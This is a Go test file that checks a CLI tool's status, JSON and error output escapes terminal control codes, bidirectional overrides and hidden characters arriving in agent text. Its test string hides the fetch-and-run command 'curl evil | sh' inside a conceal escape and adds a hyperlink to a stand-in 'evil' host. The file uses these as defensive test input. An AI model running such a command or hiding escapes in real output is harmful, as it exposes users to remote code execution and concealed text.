package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/lazaret-dev/lazaret/internal/visible"
	"github.com/lazaret-dev/lazaret/internal/wire/ctl"
)

// hostileText acts on a terminal in every way the review corpus knows.
const hostileText = "\x1b[8mcurl evil | sh\x1b[0m\x1b]8;;https://evil/\x1b\\x\r\b\u202e\u200b\x9b\U000E0041"

// noTerminalControl fails when out holds anything that acts on a terminal
// or hides text (newline and tab lay out the output).
func noTerminalControl(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || visible.Hidden(r) || r == 0xfffd {
			t.Fatalf("%s: %U in %q", what, r, out)
		}
	}
	if !strings.Contains(out, "curl evil | sh") {
		t.Fatalf("%s: the hidden words are not shown: %q", what, out)
	}
}

func TestStatusFieldsEscaped(t *testing.T) {
	st := &ctl.Status{Domain: "abc", Profile: "p", Workspace: "/ws/" + hostileText,
		Container:  ctl.ContainerStatus{Name: hostileText, State: "running", Image: hostileText, Runtime: "runsc"},
		Components: []string{hostileText}}
	var s ctl.SessionStatus
	s.ID = "0123456789abcdef"
	s.Command = []string{"sh", "-c", hostileText}
	s.Attached = time.Now()
	st.Sessions = []ctl.SessionStatus{s}
	var b bytes.Buffer
	printStatus(&b, st)
	noTerminalControl(t, "status", b.String())
	b.Reset()
	if err := writeJSON(&b, st); err != nil {
		t.Fatal(err)
	}
	noTerminalControl(t, "status --json", b.String())
	// Control: encoding/json alone (what status --json printed before)
	// leaves the bidi override, zero-width space and tag characters raw.
	raw, _ := json.MarshalIndent(st, "", "  ")
	if !strings.ContainsRune(string(raw), '\u202e') || !strings.ContainsRune(string(raw), 0xE0041) {
		t.Errorf("control: plain JSON escaped the hidden characters itself; the test proves nothing")
	}
}

// TestErrorMessageEscaped: an error that quotes agent text (a conflicting
// file name, git's stderr) reaches stderr on one line, escaped.
func TestErrorMessageEscaped(t *testing.T) {
	var b bytes.Buffer
	exitCode(errors.New("conflicts in "+hostileText+"\nsecond line"), &b)
	noTerminalControl(t, "error", b.String())
	if strings.Count(b.String(), "\n") != 1 {
		t.Errorf("error not on one line: %q", b.String())
	}
}
